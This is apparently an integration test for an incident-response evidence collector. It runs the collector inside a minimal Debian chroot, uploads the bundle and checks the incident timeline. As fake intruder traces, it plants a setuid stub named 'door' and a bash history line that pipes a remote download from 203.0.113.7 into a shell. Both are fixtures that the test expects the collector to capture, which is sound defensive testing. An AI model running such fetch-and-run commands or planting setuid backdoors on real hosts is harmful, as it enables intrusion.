// The collector in a fresh Debian root, as a host that has nothing but what Debian gives: no curl, no lsof, no Node. Its bundle comes in on a medium.
// The root is made once by `debootstrap --variant=minbase bookworm DIR` and named by HIKESHI_DEBIAN_ROOT; without one this is skipped.
import assert from 'node:assert/strict'
import { execFileSync, spawnSync } from 'node:child_process'
import { existsSync, mkdirSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { after, before, test } from 'node:test'
import { evidenceApi } from '#src/respond/evidence/api.ts'
import { incidentApi } from '#src/respond/incident/api.ts'
import { type ServedDesk, servedDesk } from '#test/kit/served.ts'

const root = process.env.HIKESHI_DEBIAN_ROOT ?? '/opt/hikeshi-tests/debian'
const skip =
  !existsSync(join(root, 'etc/debian_version')) || process.getuid?.() !== 0
    ? `no Debian root at ${root}, or not root: debootstrap --variant=minbase bookworm ${root}`
    : false

let desk: ServedDesk
let headers: Record<string, string>
before(async () => {
  if (skip) return
  desk = await servedDesk()
  headers = await desk.signIn('lead')
})
after(async () => {
  if (!skip) await desk.close()
})

test('in a fresh Debian root the collector takes the host, and the incident shows its bundle', { skip }, async () => {
  const evidence = desk.client(evidenceApi, headers)
  const { number } = await desk.client(incidentApi, headers).create({ title: '侵入', kinds: [] })
  const made = await evidence.makeCollector({ incident: number, host: 'fresh', system: 'posix', lang: 'en' })
  const medium = join(root, 'mnt/medium')
  rmSync(medium, { recursive: true, force: true })
  mkdirSync(medium, { recursive: true })
  writeFileSync(join(medium, 'collect.sh'), made.body as Uint8Array)
  // What an intruder left: the bundle has to hold it.
  writeFileSync(join(root, 'usr/local/bin/door'), '#!/bin/sh\n', { mode: 0o4755 })
  writeFileSync(join(root, 'root/.bash_history'), 'curl http://203.0.113.7/x | sh\n')
  const before = treeOf(root)
  const inside = ['chroot', root, 'sh', '/mnt/medium/collect.sh', '-y', '-o', '/mnt/medium']
  const run = spawnSync('unshare', ['--mount', '--pid', '--fork', `--mount-proc=${root}/proc`, ...inside], {
    encoding: 'utf8',
    input: '',
  })
  assert.equal(run.status, 0, run.stderr)
  assert.deepEqual(treeOf(root), before, 'nothing was written beside its own folder')
  const [name = ''] = readdirSync(medium).filter((one) => one.startsWith('hikeshi-'))
  const data = join(medium, name, 'data')
  const textOf = (part: string) =>
    readFileSync(join(data, readdirSync(data).find((one) => one.endsWith(`-${part}.txt`))!), 'utf8')
  assert.match(textOf('set-uid-files'), /\/usr\/local\/bin\/door/)
  assert.match(textOf('file-times'), /\|\/usr\/local\/bin\/door\|/)
  assert.match(textOf('packages'), /ii\s+dpkg/)
  const histories = readdirSync(data).includes('histories.tar')
    ? execFileSync('tar', ['-xOf', join(data, 'histories.tar'), 'root/.bash_history'], { encoding: 'utf8' })
    : ''
  assert.match(histories, /203\.0\.113\.7/)
  // What a bare host has not is said, and nothing ends for want of it.
  assert.match(run.stderr, /What could not be taken:[\s\S]*no w on this host|none of: ss/)

  const bundle = readFileSync(join(medium, name, `${name}.tar.gz`))
  const uploads = `http://desk.example/api/incidents/${number}/evidence/uploads`
  const sent = await desk.fetch(
    new Request(uploads, {
      method: 'POST',
      headers: {
        ...headers,
        'tus-resumable': '1.0.0',
        'upload-length': String(bundle.length),
        'upload-metadata': `filename ${Buffer.from(`${name}.tar.gz`).toString('base64')}`,
        'content-type': 'application/offset+octet-stream',
      },
      body: bundle as BodyInit,
    }),
  )
  assert.equal(sent.status, 201)
  const upload = sent.headers.get('location')!.split('/').at(-1)!
  const row = await evidence.add({ incident: number, kind: 'collection', upload, description: 'fresh' })
  const code = readFileSync(join(medium, name, 'CODE.txt'), 'utf8').trim()
  assert.deepEqual(
    [
      row.collection?.wrong,
      row.collection?.isReadable,
      row.collection?.isRoot,
      row.collection?.host,
      row.collection?.code,
    ],
    [[], true, true, 'fresh', code],
  )
  const times = await evidence.timeline({ incident: number, item: row.number, reason: 'look', name: 'local/bin/door' })
  assert.equal(times.rows[0]?.name, '/usr/local/bin/door')
  assert.deepEqual(desk.troubles, [])
})

/** Every file of the root but those of the medium, with what a write would change. */
const treeOf = (folder: string): string[] =>
  execFileSync(
    'find',
    [folder, '-xdev', '-path', join(folder, 'mnt'), '-prune', '-o', '-type', 'f', '-printf', '%P %s %T@ %C@\\n'],
    { encoding: 'utf8', maxBuffer: 64 * 1024 ** 2 },
  )
    .split('\n')
    .sort()
